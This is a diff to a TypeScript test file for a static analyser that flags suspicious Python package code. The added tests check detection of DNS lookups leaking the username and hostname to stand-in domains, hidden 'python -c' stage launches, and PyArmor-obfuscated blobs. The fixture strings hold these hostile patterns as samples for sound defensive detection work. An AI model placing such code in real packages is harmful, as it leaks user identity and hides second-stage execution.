@@ -7,7 +7,7 @@ import { test } from 'uvu';
 import * as assert from 'uvu/assert';
 import { loadParsers } from '../../shared/parsers/tree-sitter.js';
 import { analysePython } from '../../shared/packages/analysis/python/flow.js';
-import { hasCompatLetters } from '../../shared/packages/analysis/python/review.js';
+import { hasCompatLetters, protectedCode } from '../../shared/packages/analysis/python/review.js';
 
 const ids = (src: string): string[] => {
   const f = analysePython(src);
@@ -146,6 +146,35 @@ test('setup_install_hook_exec: an install override that starts a process; a buil
   assert.ok(ids(develop).includes('setup_install_hook_exec'));
   const build = "from setuptools.command.build_ext import build_ext\nimport subprocess\nclass B(build_ext):\n    def run(self):\n        subprocess.check_call(['cmake', '..'])\n";
   assert.equal(ids(build), []);
+});
+
+// ---- DNS recon ----------------------------------------------------------------------------------------
+
+test('recon_exfil_flow through DNS: a name built from the user and host is looked up; resolving the own host name is not', () => {
+  assert.ok(analysePython("import socket, getpass\nsocket.gethostbyname(f'{getpass.getuser()}.{socket.gethostname()}.x.example')\n")!.reconSent);
+  assert.ok(analysePython("import dns.resolver, os\nu = os.getlogin()\ndns.resolver.resolve(u + '.t.example', 'A')\n")!.reconSent);
+  assert.not.ok(analysePython("import socket\naddrs = socket.getaddrinfo(socket.gethostname(), 0)\n")!.reconSent);
+});
+
+// ---- interpreters started with inline code at module level ---------------------------------------------
+
+test('interpreter_inline_spawn: module-level python -c (list, sys.executable, string); inside a function it is not reported', () => {
+  assert.ok(ids("import subprocess\np = subprocess.Popen(['python3', '-c', 'import helper'], close_fds=True)\n").includes('interpreter_inline_spawn'));
+  assert.ok(ids("import subprocess as s, sys\ns.Popen([sys.executable, '-c', 'import second_stage'])\n").includes('interpreter_inline_spawn'));
+  assert.ok(ids("import os\nos.system('pythonw -c \"import x\"')\n").includes('interpreter_inline_spawn'));
+  assert.equal(ids("import subprocess, sys\ndef include_dir():\n    return subprocess.check_output([sys.executable, '-c', 'import numpy; print(numpy.get_include())'])\n"), []);
+  assert.equal(ids("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', '--version'])\n"), []);
+});
+
+// ---- PyArmor-protected code ------------------------------------------------------------------------------
+
+test('protected_code: a PyArmor blob is reported; PyArmor documentation naming the call is not', () => {
+  const blob = "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52\\x4d\\x4f\\x52\\x00\\x00\\x03')\n";
+  const f = protectedCode('p/__init__.py', blob);
+  assert.ok(f);
+  assert.is(f!.line, 3);
+  assert.ok(protectedCode('p/m.py', "from .pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03')\n"));
+  assert.is(protectedCode('pyarmor/docs.py', "HELP = 'a protected script calls __pyarmor__(__name__, __file__, <blob>) at import'\n"), null);
 });
 
 test.run();
